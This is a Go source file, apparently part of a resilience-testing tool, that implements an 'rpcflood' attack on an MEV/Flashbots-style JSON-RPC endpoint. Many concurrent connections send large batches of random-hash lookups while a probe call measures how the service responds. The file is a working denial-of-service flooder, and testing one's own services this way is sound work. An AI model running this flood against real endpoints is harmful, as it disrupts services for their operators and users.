package main

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"strconv"
	"sync"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
)

var rpcBatch = flag.Int("batch", 100, "rpcflood: calls per JSON-RPC request (1: single calls, not a batch)")

// rpcProbe is the honest single JSON-RPC call -attack rpcflood adds to the
// probes: rpc_modules, answered by the MEV listener's dispatcher as cheap
// lookups are.
var rpcProbe = probeKind{"rpccall", 20 * time.Millisecond}

// rpcProbeRequest is the honest single call.
func rpcProbeRequest() *http.Request {
	req, _ := http.NewRequest("POST", *target, bytes.NewReader([]byte(`{"jsonrpc":"2.0","id":1,"method":"rpc_modules","params":[]}`)))
	req.Header.Set("Content-Type", "application/json")
	return req
}

// floodRPC is -attack rpcflood: -conns clients without funds or signature,
// each on one kept-alive connection, send JSON-RPC requests of -batch cheap
// lookups of random hashes (mev_getBetaBundle, flashbots_getBundleStatsV2)
// one after the other for -hold. The answers are counted by HTTP status,
// with "calls" the lookups sent.
func floodRPC() map[string]int {
	var mu sync.Mutex
	answers := map[string]int{}
	end := time.Now().Add(*hold)
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			client := &http.Client{Timeout: 30 * time.Second}
			for time.Now().Before(end) {
				body := lookups(*rpcBatch)
				status := "error"
				if res, err := client.Post(*target, "application/json", bytes.NewReader(body)); err == nil {
					io.Copy(io.Discard, res.Body)
					res.Body.Close()
					status = strconv.Itoa(res.StatusCode)
				}
				mu.Lock()
				answers[status]++
				answers["calls"] += *rpcBatch
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return answers
}

// lookups is a request of n lookups of random hashes, a batch unless n is 1.
func lookups(n int) []byte {
	calls := make([]map[string]any, n)
	for i := range calls {
		var h common.Hash
		rand.Read(h[:])
		calls[i] = map[string]any{"jsonrpc": "2.0", "id": i, "method": "mev_getBetaBundle", "params": []any{h}}
		if i%2 == 1 {
			calls[i]["method"] = "flashbots_getBundleStatsV2"
			calls[i]["params"] = []any{map[string]any{"bundleHash": h, "blockNumber": hexutil.Uint64(1)}}
		}
	}
	if n == 1 {
		b, _ := json.Marshal(calls[0])
		return b
	}
	b, _ := json.Marshal(calls)
	return b
}
